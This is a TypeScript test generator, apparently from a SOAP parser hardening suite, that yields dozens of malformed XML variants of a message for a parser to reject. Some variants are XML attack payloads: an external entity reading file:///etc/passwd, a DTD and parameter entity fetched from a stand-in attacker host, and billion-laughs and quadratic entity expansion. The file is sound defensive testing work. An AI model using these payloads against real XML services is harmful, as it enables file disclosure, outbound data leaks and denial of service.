import type { AttackFamily, Draft } from './attack.js';

/** Text that XML parsers disagree on, or that makes them work or fetch: none of it is a SOAP message. */
export const parsing: AttackFamily = function* (message, _options) {
  const { text } = message;
  const start = text.indexOf('<', text.startsWith('<?xml') ? text.indexOf('?>') : 0);
  const bare = text.slice(start);
  const tagEnd = /[\s/>]/.exec(bare.slice(1))?.index ?? 0;
  const name = bare.slice(1, tagEnd + 1);
  const inTag = (more: string): string => `<${name} ${more}${bare.slice(name.length + 1)}`;
  const close = bare.lastIndexOf('</');
  const bodyStart = bare.indexOf(`<${message.body.prefix}:Body`);
  const inside = (more: string): string => `${bare.slice(0, bodyStart)}${more}${bare.slice(bodyStart)}`;
  const draft = (what: string, about: string, result: string): Draft => ({ name: `parsing/${what}`, about, result });
  const doctype = (what: string, about: string, subset: string): Draft =>
    draft(`doctype-${what}`, about, `<!DOCTYPE ${name} ${subset}>${bare}`);
  const laughs = Array.from({ length: 10 }, (_, at) => `<!ENTITY l${at + 1} "${`&l${at};`.repeat(10)}">`).join('');

  yield doctype('bare', 'A document type declaration.', '');
  yield doctype('internal-entity', 'An entity is declared.', '[<!ENTITY e "x">]');
  yield doctype('external-entity', 'An entity is to be read from a file.', '[<!ENTITY e SYSTEM "file:///etc/passwd">]');
  yield doctype('external-subset', 'Declarations are to be fetched.', 'SYSTEM "http://attacker.invalid/x.dtd"');
  yield doctype(
    'parameter-entity',
    'A parameter entity is to be fetched.',
    '[<!ENTITY % p SYSTEM "http://attacker.invalid/p"> %p;]',
  );
  yield doctype('billion-laughs', 'Entities that double each other.', `[<!ENTITY l0 "ha">${laughs}]`);
  yield doctype('quadratic', 'One large entity, used many times.', `[<!ENTITY q "${'x'.repeat(50_000)}">]`);
  yield doctype(
    'id-attribute',
    'An attribute is declared as an Id.',
    `[<!ATTLIST ${message.body.prefix}:Body AltId ID #IMPLIED>]`,
  );
  yield doctype(
    'default-attribute',
    'An attribute is given a default value.',
    `[<!ATTLIST ${message.body.prefix}:Body evil CDATA "1">]`,
  );
  yield doctype('notation', 'A notation is declared.', '[<!NOTATION n SYSTEM "x">]');
  yield draft(
    'doctype-after-comment',
    'A document type declaration follows a comment.',
    `<!--x--><!DOCTYPE ${name}>${bare}`,
  );
  yield draft('entity-undeclared', 'An entity is used that nobody declared.', inside('&evil;'));
  yield draft(
    'processing-instruction',
    'A processing instruction stands before the envelope.',
    `<?xml-stylesheet href="http://attacker.invalid/x.xsl"?>${bare}`,
  );
  yield draft(
    'processing-instruction-inside',
    'A processing instruction stands in the envelope.',
    inside('<?evil x?>'),
  );
  yield draft('xml-declaration-twice', 'Two XML declarations.', `<?xml version="1.0"?><?xml version="1.0"?>${bare}`);
  yield draft(
    'xml-declaration-late',
    'White space stands before the XML declaration.',
    ` <?xml version="1.0"?>${bare}`,
  );
  yield draft('xml-1.1', 'The message says that it is XML 1.1.', `<?xml version="1.1"?>${bare}`);
  yield draft('xml-2.0', 'The message says that it is XML 2.0.', `<?xml version="2.0"?>${bare}`);
  for (const encoding of ['UTF-7', 'ISO-8859-1', 'EBCDIC-CP-US', 'UTF-32', '']) {
    yield draft(
      `encoding-${encoding || 'empty'}`,
      `The message says that it is encoded in "${encoding}", and is in UTF-8.`,
      `<?xml version="1.0" encoding="${encoding}"?>${bare}`,
    );
  }
  yield draft('attribute-twice', 'An attribute stands there twice.', inTag('a="1" a="2" '));
  yield draft(
    'attribute-twice-by-namespace',
    'One attribute stands there twice, by two prefixes.',
    inTag('xmlns:p1="urn:p" xmlns:p2="urn:p" p1:a="1" p2:a="2" '),
  );
  yield draft(
    'declaration-twice',
    'A prefix is declared twice in one element.',
    inTag('xmlns:p1="urn:1" xmlns:p1="urn:2" '),
  );
  yield draft('prefix-undeclared', 'A prefix is used that nobody declared.', inside('<nobody:knows/>'));
  yield draft(
    'attribute-prefix-undeclared',
    'A prefix of an attribute is used that nobody declared.',
    inTag('nobody:knows="1" '),
  );
  yield draft('prefix-unbound', 'A prefix is bound to nothing.', inside('<p:x xmlns:p=""/>'));
  yield draft('xml-rebound', 'The prefix "xml" is bound to something else.', inTag('xmlns:xml="urn:attacker" '));
  yield draft('xmlns-bound', 'The prefix "xmlns" is bound.', inTag('xmlns:xmlns="urn:attacker" '));
  yield draft(
    'xmlns-namespace',
    'A prefix is bound to the namespace of declarations.',
    inTag('xmlns:p="http://www.w3.org/2000/xmlns/" '),
  );
  yield draft('two-colons', 'A name has two colons.', inside('<a:b:c xmlns:a="urn:a"/>'));
  yield draft('two-roots', 'Another element follows the envelope.', `${bare}<evil/>`);
  yield draft('two-envelopes', 'The envelope stands there twice.', `${bare}${bare}`);
  yield draft('text-after', 'Text follows the envelope.', `${bare}evil`);
  yield draft('text-before', 'Text stands before the envelope.', `evil${bare}`);
  yield draft('unclosed', 'The envelope is not closed.', bare.slice(0, close));
  yield draft('closed-otherwise', 'The envelope is closed by another name.', `${bare.slice(0, close)}</evil>`);
  yield draft(
    'closed-by-case',
    'The envelope is closed by its name in other letters.',
    `${bare.slice(0, close)}${bare.slice(close).toUpperCase()}`,
  );
  yield draft('cut-in-the-middle', 'Half of the message.', bare.slice(0, bare.length / 2));
  yield draft('empty', 'Nothing.', '');
  yield draft('white-space', 'White space.', ' \n ');
  yield draft('not-xml', 'JSON.', '{"Envelope":{"Body":{}}}');
  yield draft('nul', 'A NUL.', inside('\0'));
  yield draft('control-character', 'A control character.', inside('\u0001'));
  yield draft('non-character', 'A character that is none.', inside('\uffff'));
  yield draft('character-reference-nul', 'A reference to NUL.', inside('&#0;'));
  yield draft('character-reference-surrogate', 'A reference to half a character.', inside('&#xD800;'));
  yield draft('character-reference-beyond', 'A reference beyond Unicode.', inside('&#x110000;'));
  yield draft('cdata-end-in-text', '"]]>" in text.', inside(']]>'));
  yield draft('less-than-in-attribute', '"<" in an attribute.', inTag('a="<" '));
  yield draft('ampersand', 'A bare "&".', inside('&'));
  yield draft('comment-with-dashes', '"--" in a comment.', inside('<!-- a--b -->'));
  yield draft('comment-unclosed', 'A comment that does not end.', inside('<!--'));
  yield draft('cdata-unclosed', 'A CDATA section that does not end.', inside('<![CDATA['));
  yield draft('attribute-unquoted', 'An attribute without quotes.', inTag('a=1 '));
  yield draft('attribute-without-value', 'An attribute without a value.', inTag('a '));
  yield draft('attributes-without-space', 'Two attributes without a space between.', inTag('a="1"b="2" '));
  yield draft(
    'body-commented-out',
    'The Body stands in a comment.',
    `${bare.slice(0, bodyStart)}<!--${bare.slice(bodyStart, close).replaceAll('--', '')}-->${bare.slice(close)}`,
  );
  yield draft(
    'body-in-cdata',
    'The Body is text.',
    `${bare.slice(0, bodyStart)}<![CDATA[${bare.slice(bodyStart, close)}]]>${bare.slice(close)}`,
  );
};
